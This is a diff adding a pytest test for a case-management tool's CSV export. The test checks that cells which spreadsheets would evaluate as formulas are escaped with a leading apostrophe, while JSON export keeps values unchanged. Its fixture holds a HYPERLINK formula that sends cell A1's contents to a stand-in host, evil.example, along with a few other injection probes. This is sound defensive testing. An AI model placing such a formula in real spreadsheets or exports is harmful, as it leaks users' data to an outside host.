@@ -61,3 +61,32 @@ def test_brief_in_the_brokers_language(database, capsys):
     assert "Marruecos" in brief["summary"]
     assert brief["original_words"] == ["Bonjour", "Coop"]
     assert main(["cases", "--database", database, "brief", "IM-999999"]) == 1
+
+
+def test_csv_cells_that_spreadsheets_would_evaluate_are_written_as_text(database, capsys):
+    engine = make_engine(database)
+    with make_session_factory(engine).begin() as session:
+        session.add(Conversation(id="c9", channel="telegram"))
+        session.flush()
+        session.add(Case(reference="IM-00000009", conversation_id="c9", status="new",
+                         channel="telegram", language="en",
+                         org_name='=HYPERLINK("http://evil.example/?d="&A1,"Open")',
+                         contact_name="@admin", phone="+21612345678", city="\tSfax",
+                         need_description="-2+3 olive presses\r\nand more",
+                         original_words=["=1+1", "hello"],
+                         created_at=dt.datetime(2026, 11, 20, tzinfo=dt.UTC)))
+    engine.dispose()
+    assert main(["cases", "--database", database, "export", "--since", "2026-11-20"]) == 0
+    out = capsys.readouterr().out
+    [row] = list(csv.DictReader(io.StringIO(out, newline="")))
+    assert row["org_name"] == '\'=HYPERLINK("http://evil.example/?d="&A1,"Open")'
+    assert row["contact_name"] == "'@admin" and row["phone"] == "'+21612345678"
+    assert row["city"] == "'\tSfax"
+    assert row["need_description"] == "'-2+3 olive presses\r\nand more"
+    assert row["original_words"] == "'=1+1 | hello"
+    assert all(cell[:1] not in "=+-@\t\r" or cell == "" for cell in row.values())
+    # JSON is data, not a sheet: it keeps the values as they are.
+    assert main(["cases", "--database", database, "export", "--format", "json",
+                 "--since", "2026-11-20"]) == 0
+    [record] = json.loads(capsys.readouterr().out)
+    assert record["org_name"].startswith("=HYPERLINK") and record["phone"] == "+21612345678"
